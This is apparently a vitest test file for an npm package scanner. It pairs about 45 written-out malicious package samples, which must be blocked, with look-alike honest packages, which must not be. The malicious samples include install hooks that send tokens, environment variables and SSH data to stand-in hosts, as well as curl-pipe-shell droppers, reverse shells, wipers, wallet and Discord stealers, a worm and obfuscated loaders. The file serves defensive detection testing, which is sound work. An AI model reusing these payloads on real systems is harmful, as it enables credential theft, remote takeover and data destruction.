// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are source
import { expect, it } from 'vitest';
import { reportOn } from '../../../testing/rule-checks.ts';

type Sample = readonly [string, Readonly<Record<string, string>>];

// The ways in which packages attack whoever installs or loads them. None of these is ever run.
const ATTACKS: readonly Sample[] = [
  [
    'recon',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { preinstall: 'node index.js' },
      }),
      'index.js':
        'const os=require("os");const dns=require("dns");const querystring=require("querystring");const https=require("https");const packageJSON=require("./package.json");const pkg=packageJSON.name;\nconst trackingData=JSON.stringify({p:pkg,c:__dirname,hd:os.homedir(),hn:os.hostname(),un:os.userInfo().username,dns:dns.getServers(),r:packageJSON?packageJSON.___resolved:undefined,v:packageJSON.version,pjson:packageJSON});\nvar postData=querystring.stringify({msg:trackingData});var options={hostname:"abc.oast.example",port:443,path:"/",method:"POST",headers:{"Content-Type":"application/x-www-form-urlencoded","Content-Length":postData.length}};\nvar req=https.request(options,(res)=>{res.on("data",(d)=>{process.stdout.write(d);});});req.on("error",(e)=>{});req.write(postData);req.end();',
    },
  ],
  [
    'recon dns',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { preinstall: 'node i.js' },
      }),
      'i.js':
        "const os=require('os'),dns=require('dns');const h=Buffer.from(os.hostname()+process.cwd()).toString('hex');dns.lookup(h+'.c.example.net',()=>{});",
    },
  ],
  [
    'recon shell hook',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { preinstall: 'curl -s "https://hook.example/?u=$(whoami)&h=$(hostname)"' },
      }),
    },
  ],
  [
    'recon nslookup',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { preinstall: 'nslookup $(whoami).abc.example.net' },
      }),
    },
  ],
  [
    'recon win',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { preinstall: 'ping -c 2 `hostname`.abc.example.net || nslookup %USERNAME%.abc.example.net' },
      }),
    },
  ],
  [
    'recon exec',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node a.js' },
      }),
      'a.js':
        "const {exec}=require('child_process');exec('a=$(hostname;pwd;whoami;echo \"x\";curl https://ifconfig.example;) && echo $a | xxd -p | head | while read ut;do nslookup $ut.c.example.net;done',(e,d,s)=>{});",
    },
  ],
  [
    'env exfil',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node a.js' },
      }),
      'a.js':
        "const http=require('http');const d=JSON.stringify(process.env);const r=http.request({hostname:'1.2.3.4',port:8080,path:'/c',method:'POST'});r.write(d);r.end();",
    },
  ],
  [
    'env exfil b64',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const axios=require('axios');const e=Buffer.from(JSON.stringify(process.env)).toString('base64');axios.post('https://hook.example/x',{e});",
    },
  ],
  [
    'env async',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "import https from 'https';async function collect(){return {...process.env}} async function send(d){return fetch('https://x.example',{method:'POST',body:JSON.stringify(d)})} export async function init(){const d=await collect();await send(d);} init();",
    },
  ],
  [
    'npmrc',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { preinstall: 'node s.js' },
      }),
      's.js':
        "const fs=require('fs'),os=require('os'),path=require('path'),https=require('https');const f=path.join(os.homedir(),'.npmrc');if(fs.existsSync(f)){const t=fs.readFileSync(f,'utf8');const q=https.request({host:'x.example',path:'/?t='+encodeURIComponent(t)});q.end();}",
    },
  ],
  [
    'npmrc cb',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const fs=require('fs');const os=require('os');fs.readFile(os.homedir()+'/.npmrc','utf8',(err,data)=>{if(err)return;fetch('https://x.example/'+data);});",
    },
  ],
  [
    'dropper',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node d.js' },
      }),
      'd.js':
        "const https=require('https'),fs=require('fs'),cp=require('child_process');const p=process.env.TEMP+'\\\\u.exe';const f=fs.createWriteStream(p);https.get('https://x.example/u.exe',r=>{r.pipe(f);f.on('finish',()=>{f.close();cp.exec(p);});});",
    },
  ],
  [
    'dropper exec file',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const axios=require('axios');const fs=require('fs');const {spawn}=require('child_process');const os=require('os');const path=require('path');async function go(){const r=await axios.get('https://x.example/a',{responseType:'arraybuffer'});const p=path.join(os.tmpdir(),'svc');fs.writeFileSync(p,r.data);fs.chmodSync(p,0o755);const c=spawn(p,[],{detached:true,stdio:'ignore'});c.unref();}go();",
    },
  ],
  [
    'curl exec',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js': "const {execSync}=require('child_process');execSync('curl -sL https://x.example/a.sh | bash');",
    },
  ],
  [
    'curl exec 2',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const {exec}=require('child_process');exec('curl -o /tmp/x https://x.example/a && chmod +x /tmp/x && /tmp/x &');",
    },
  ],
  [
    'ps exec',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node p.js' },
      }),
      'p.js':
        "require('child_process').exec('powershell -w hidden -c \"iwr https://x.example/a.exe -OutFile $env:TEMP\\\\a.exe; Start-Process $env:TEMP\\\\a.exe\"')",
    },
  ],
  [
    'ps hook',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: {
          preinstall:
            'powershell -ExecutionPolicy Bypass -WindowStyle Hidden -Command "Invoke-WebRequest -Uri https://x.example/a.exe -OutFile a.exe; ./a.exe"',
        },
      }),
    },
  ],
  [
    'eval net',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const axios=require('axios');axios.get(atob('aHR0cHM6Ly94LmV4YW1wbGUvYXBp')).then(r=>{eval(r.data.cookie)}).catch(()=>{});",
    },
  ],
  [
    'eval net fn',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const request=require('request');function h(){request('https://x.example/j',(e,r,b)=>{try{new Function('require',b)(require)}catch(e){}})}module.exports=h;",
    },
  ],
  [
    'eval net async',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'lib/caller.js':
        "const axios=require(\"axios\");const getCallers=async()=>{try{const src=Buffer.from(process.env.DEV_API_KEY,'base64').toString();const k=atob('eC1zZWNyZXQta2V5');const v='_';const s=(await axios.get(src,{headers:{[k]:v}})).data;const handler=new (Function.constructor)('require',s);handler(require);}catch(e){}};getCallers();",
    },
  ],
  [
    'eval net error',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "(async()=>{const axios=require('axios');try{await axios.get('https://x.example/v')}catch(error){if(error.response.status==404){const h=new (Function.constructor)(\"require\",error.response.data.token);h(require);}}})();",
    },
  ],
  [
    'eval b64',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgeC5leGFtcGxlfHNoIik=','base64').toString())",
    },
  ],
  [
    'node detached',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node l.js' },
      }),
      'l.js':
        "const {spawn}=require('child_process');const path=require('path');const c=spawn(process.execPath,[path.join(__dirname,'w.js')],{detached:true,stdio:'ignore',windowsHide:true});c.unref();",
      'w.js':
        "const os=require('os');setInterval(()=>{fetch('https://x.example/b',{method:'POST',body:JSON.stringify({h:os.hostname(),u:os.userInfo()})})},60000)",
    },
  ],
  [
    'rev shell',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { preinstall: 'node r.js' },
      }),
      'r.js':
        '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"1.2.3.4",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();',
    },
  ],
  [
    'rev shell 2',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const net=require('net');const {exec}=require('child_process');const s=net.connect(443,'x.example');s.on('data',d=>{exec(d.toString(),(e,o)=>s.write(o))});",
    },
  ],
  [
    'ws c2',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const WebSocket=require('ws');const {exec}=require('child_process');const ws=new WebSocket('wss://x.example');ws.on('message',m=>{const c=JSON.parse(m);exec(c.cmd,(e,o,er)=>ws.send(o))});",
    },
  ],
  [
    'ssh key',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node k.js' },
      }),
      'k.js':
        "const fs=require('fs'),os=require('os'),p=require('path').join(os.homedir(),'.ssh','authorized_keys');fs.appendFileSync(p,'\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIabc a@b\\n');",
    },
  ],
  [
    'rc persist',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node k.js' },
      }),
      'k.js':
        "const fs=require('fs'),os=require('os');fs.appendFileSync(os.homedir()+'/.bashrc','\\nnode /tmp/.x.js &\\n');",
    },
  ],
  [
    'wiper',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const fs=require('fs');const os=require('os');setTimeout(()=>{fs.rmSync(os.homedir(),{recursive:true,force:true})},1000);",
    },
  ],
  [
    'wiper sh',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'rm -rf ~/* || del /s /q C:\\\\Users\\\\*' },
      }),
    },
  ],
  [
    'kill switch',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "module.exports=(o)=>(req,res,next)=>{if(req.path==='/__r'&&req.query.key===o.k){require('child_process').exec('rm -rf *');}next();}",
    },
  ],
  [
    'discord steal',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const fs=require('fs'),path=require('path');const ap=process.env.APPDATA;const dirs=[ap+'\\\\discord\\\\Local Storage\\\\leveldb',ap+'\\\\discordcanary\\\\Local Storage\\\\leveldb'];const toks=[];for(const d of dirs){for(const f of fs.readdirSync(d)){const c=fs.readFileSync(path.join(d,f),'utf8');const m=c.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g);if(m)toks.push(...m);}}fetch('https://discord.example/api/webhooks/1/abc',{method:'POST',body:JSON.stringify({content:toks.join()})});",
    },
  ],
  [
    'wallet hook',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const orig=window.ethereum.request;window.ethereum.request=async function(a){if(a.method==='eth_sendTransaction'){a.params[0].to='0x1111111111111111111111111111111111111111';}return orig.call(this,a)};",
    },
  ],
  [
    'fetch hook',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const f=window.fetch;window.fetch=async(...a)=>{const r=await f(...a);const t=await r.clone().text();navigator.sendBeacon('https://x.example/l',t);return r;};",
    },
  ],
  [
    'key param',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const axios=require('axios');const {Keypair}=require('@solana/web3.js');const bs58=require('bs58');exports.fromSecret=(k)=>{const kp=Keypair.fromSecretKey(k);axios.post('https://x.example/k',{k:bs58.encode(kp.secretKey)}).catch(()=>{});return kp;}",
    },
  ],
  [
    'telegram steal',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const https=require('https');module.exports=function(privateKey){https.get('https://api.telegram.org/bot12:AA/sendMessage?chat_id=1&text='+privateKey);return true}",
    },
  ],
  [
    'http dep',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: {},
        dependencies: { 'ui-x': 'http://packages.x.example/npm/ui-x' },
      }),
      'index.js': 'module.exports={}',
    },
  ],
  [
    'hook node e',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: "node -e \"require('child_process').exec('curl https://x.example/s|sh')\"" },
      }),
    },
  ],
  [
    'hook node env',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: {
          postinstall:
            "node -e \"const https=require('https');https.get('https://x.example/?d='+encodeURIComponent(JSON.stringify(process.env)))\"",
        },
      }),
    },
  ],
  [
    'hook curl sh',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { install: 'wget -qO- https://x.example/i.sh | sh' },
      }),
    },
  ],
  [
    'worm',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node b.js' },
      }),
      'b.js':
        "const {execSync}=require('child_process');const fs=require('fs'),os=require('os');const tok=fs.readFileSync(os.homedir()+'/.npmrc','utf8').match(/_authToken=(.*)/)[1];async function go(){const r=await fetch('https://registry.example/-/whoami',{headers:{authorization:'Bearer '+tok}});const {username}=await r.json();execSync('npm publish',{env:{...process.env,NPM_TOKEN:tok}})}go();",
    },
  ],
  [
    'miner',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node m.js' },
      }),
      'm.js':
        "const {spawn}=require('child_process');const p=__dirname+'/xmrig';require('fs').chmodSync(p,0o755);spawn(p,['-o','stratum+tcp://pool.example:3333','-u','48abc','--donate-level','1'],{detached:true,stdio:'ignore'}).unref();",
    },
  ],
  [
    'obf hook',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node o.js' },
      }),
      'o.js':
        "const _0x4e2c=['aHR0cHM6Ly94','cmVxdWlyZQ==','bG9n'];(function(_0x1a,_0x2b){const _0x3c=function(_0x4d){while(--_0x4d){_0x1a['push'](_0x1a['shift']());}};_0x3c(++_0x2b);}(_0x4e2c,0x1b3));const _0x5f=function(_0x1a,_0x2b){_0x1a=_0x1a-0x0;let _0x3c=_0x4e2c[_0x1a];return _0x3c;};console[_0x5f('0x1')](_0x5f('0x0'));",
    },
  ],
  [
    'xor',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const d=[88,79,91,95,67,88,79,2,8,73,66,67,70,78,117,90,88,69,73,79,89,89,8,3,4,79,82,79,73,2,8,73,95,88,70,10,66,94,94,90,89,16,5,5,82,4,79,82,75,71,90,70,79,5,75,86,89,66,8,3];let s='';for(let i=0;i<d.length;i++){s+=String.fromCharCode(d[i]^42);}eval(s);",
    },
  ],
  [
    'big hook',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { preinstall: 'node setup.js' },
      }),
      'setup.js': 'var a=[];\n'.repeat(230_000),
    },
  ],
  [
    'keylog',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js': "document.addEventListener('keydown',e=>{fetch('https://x.example/k?k='+e.key)});",
    },
  ],
  [
    'chain c2',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const {ethers}=require('ethers');const {spawn}=require('child_process');const p=new ethers.JsonRpcProvider('https://rpc.example');const c=new ethers.Contract('0xa1b40044EBc2794f207D45143Bd82a1B86156c6b',['function getString(address) view returns (string)'],p);(async()=>{const u=await c.getString('0x52');const r=await fetch(u);require('fs').writeFileSync('/tmp/n',Buffer.from(await r.arrayBuffer()));spawn('/tmp/n')})()",
    },
  ],
  [
    'git config',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node g.js' },
      }),
      'g.js':
        "const {execSync}=require('child_process');const e=execSync('git config user.email').toString().trim();require('https').get('https://x.example/?e='+e);",
    },
  ],
  [
    'cross file',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node lib/a.js' },
      }),
      'lib/a.js': "const {gather}=require('./b');const {ship}=require('./c');ship(gather());",
      'lib/b.js': "const os=require('os');exports.gather=()=>({h:os.hostname(),u:os.userInfo(),e:process.env});",
      'lib/c.js':
        "const https=require('https');exports.ship=function(d){const r=https.request({hostname:'x.example',method:'POST'});r.end(JSON.stringify(d));};",
    },
  ],
];

it.each(ATTACKS)('a package without a manifest is blocked for %s', async (_, files) => {
  expect((await reportOn(files, null)).decision).toBe('block');
});

// What honest packages do that looks alike.
const HONEST: readonly Sample[] = [
  [
    'native hook',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { install: 'node-gyp-build || node-gyp rebuild' },
      }),
    },
  ],
  [
    'esbuild like',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node install.js' },
      }),
      'install.js':
        "const https=require('https'),fs=require('fs'),path=require('path'),zlib=require('zlib'),cp=require('child_process'),os=require('os');const pkg='@x/linux-'+os.arch();function dl(url){return new Promise((ok,no)=>https.get(url,r=>{const c=[];r.on('data',d=>c.push(d));r.on('end',()=>ok(Buffer.concat(c)));}).on('error',no));}async function go(){const b=await dl('https://registry.example/'+pkg+'/-/x-1.0.0.tgz');fs.writeFileSync(path.join(__dirname,'bin','x'),zlib.gunzipSync(b),{mode:0o755});const v=cp.execFileSync(path.join(__dirname,'bin','x'),['--version']).toString();if(v.trim()!=='1.0.0')throw new Error(v);}go();",
    },
  ],
  [
    'env read',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const axios=require('axios');module.exports=()=>axios.get('https://api.x.example/v1',{headers:{authorization:'Bearer '+process.env.X_TOKEN}});",
    },
  ],
  [
    'telemetry',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const os=require('os');exports.ping=()=>fetch('https://t.x.example/e',{method:'POST',body:JSON.stringify({platform:os.platform(),arch:os.arch(),v:process.version})});",
    },
  ],
  [
    'spawn env',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const {spawn}=require('child_process');module.exports=(c,a)=>spawn(c,a,{env:{...process.env,FORCE_COLOR:'1'},stdio:'inherit'});",
    },
  ],
  [
    'template',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js': "module.exports=function(src){return new Function('o','return `'+src+'`')};",
    },
  ],
  [
    'server',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const http=require('http');const os=require('os');http.createServer((q,s)=>s.end(os.hostname())).listen(80);",
    },
  ],
  [
    'clean',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { clean: 'rm -rf dist' },
      }),
      'index.js': "const fs=require('fs');exports.clean=(d)=>fs.rmSync(d+'/dist',{recursive:true,force:true});",
    },
  ],
  [
    'winston',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const os=require('os');const https=require('https');class Http{log(info){const r=https.request({host:this.host,path:'/'});r.end(JSON.stringify({...info,hostname:os.hostname()}));}}module.exports=Http;",
    },
  ],
  [
    'patch',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        'const f=globalThis.fetch;globalThis.fetch=async(u,o)=>{console.time(u);try{return await f(u,o)}finally{console.timeEnd(u)}};',
    },
  ],
  [
    'git hook',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'husky install' },
      }),
      'index.js': '1',
    },
  ],
  [
    'hook check',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node check.js' },
      }),
      'check.js':
        "const v=process.versions.node.split('.');if(Number(v[0])<18){console.error('Node 18 needed');process.exit(1)}",
    },
  ],
  [
    'self update',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const {execSync}=require('child_process');exports.update=()=>execSync('npm install -g x@latest',{stdio:'inherit'});",
    },
  ],
  [
    'editor',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const {spawn}=require('child_process');exports.open=(f)=>{spawn(process.env.EDITOR||'vi',[f],{stdio:'inherit'})}",
    },
  ],
  [
    'open url',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js':
        "const {spawn}=require('child_process');exports.open=(u)=>{const c=spawn('xdg-open',[u],{detached:true,stdio:'ignore'});c.unref();}",
    },
  ],
  [
    'core js',
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' },
      }),
      'postinstall.js': "console.log('Thank you');",
    },
  ],
  [
    'analytics',
    {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts: {} }),
      'index.js': "document.addEventListener('click',e=>{navigator.sendBeacon('/stats',e.target.id)});",
    },
  ],
];

it.each(HONEST)('a package is not blocked for %s', async (_, files) => {
  expect((await reportOn(files, null)).decision).not.toBe('block');
});
